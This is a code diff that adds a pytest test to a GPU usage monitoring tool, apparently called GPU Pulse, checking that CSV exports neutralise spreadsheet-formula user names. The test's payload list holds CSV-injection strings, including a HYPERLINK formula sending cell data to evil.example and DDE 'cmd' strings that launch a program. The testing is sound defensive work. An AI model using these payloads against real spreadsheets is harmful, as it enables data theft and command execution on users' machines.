@@ -12,6 +12,7 @@ import pwd
 import re
 import subprocess
 import sys
+import urllib.request
 from datetime import UTC, datetime
 from pathlib import Path
 
@@ -23,6 +24,7 @@ from store import open_db
 from store.samples import GpuInfo, GpuSample, ProcessSample, Recorder, Tick, set_meta
 from tests.support.commands import gpupulse_api, python_m, scheduler
 from tests.support.lab import DAY_START, HOSTILE, fill_day, lab_app
+from tests.support.servers import start_gunicorn, stop
 
 GPU_STATS = Path(__file__).resolve().parents[2] / "data" / "gpu_stats"
 HEADER_LINE = "timestamp,user,pid,gpu,usage\n"
@@ -199,3 +201,66 @@ def test_export_then_import_keeps_every_users_gpu_hours(tmp_path):
     assert set(after) == set(before)
     for user, hours in before.items():
         assert after[user] == pytest.approx(hours, rel=0.01), user
+
+
+# -- names a spreadsheet would run ------------------------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def hostile_day(db: Path) -> None:
+    """One tick on one GPU: a process of each formula-like user, and one of alice."""
+    conn = open_db(db, migrate=True)
+    gpu = GpuInfo("GPU-0", 0, "NVIDIA A100")
+    users = [*FORMULAS, "alice"]
+    procs = [ProcessSample("GPU-0", 100 + k, DAY_START - 60, u) for k, u in enumerate(users)]
+    Recorder(conn).write([Tick(DAY_START, 5.0, [GpuSample(gpu, util=90)], procs)])
+    conn.close()
+
+
+def users_in(path: Path) -> list[str]:
+    """The user cells of a written export file, as a spreadsheet would read them."""
+    with path.open(newline="", encoding="utf-8") as handle:
+        return [row[1] for row in list(csv.reader(handle))[1:]]
+
+
+def test_formula_user_names_are_neutralised_in_both_exports(tmp_path):
+    db = tmp_path / "pulse.db"
+    hostile_day(db)
+    run(
+        gpupulse_api(
+            "export", "--dir", str(tmp_path / "cli"), "--from", "2026-03-03", "--to", "2026-03-03"
+        ),
+        db,
+        tmp_path,
+    )
+    from_cli = tmp_path / "cli" / "20260303_gpu_stats.csv"
+    proc, base = start_gunicorn(db, workers=1)
+    try:
+        with urllib.request.urlopen(f"{base}/api/v1/export.csv?date=2026-03-03") as reply:
+            (tmp_path / "http.csv").write_bytes(reply.read())
+    finally:
+        stop(proc)
+    expected = sorted([f"'{name}" for name in FORMULAS] + ["alice"])
+    for written in (from_cli, tmp_path / "http.csv"):
+        users = users_in(written)
+        assert sorted(users) == expected, written
+        assert not [u for u in users if u.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert from_cli.read_bytes() == (tmp_path / "http.csv").read_bytes()
+    # And GPU Pulse's own import reads the names back as they were.
+    run(
+        python_m("collector", "import", "--host", "box", str(from_cli)),
+        tmp_path / "in.db",
+        tmp_path,
+    )
+    conn = open_db(tmp_path / "in.db")
+    names = {row[0] for row in conn.execute("SELECT user FROM processes")}
+    conn.close()
+    assert names == {*FORMULAS, "alice"}
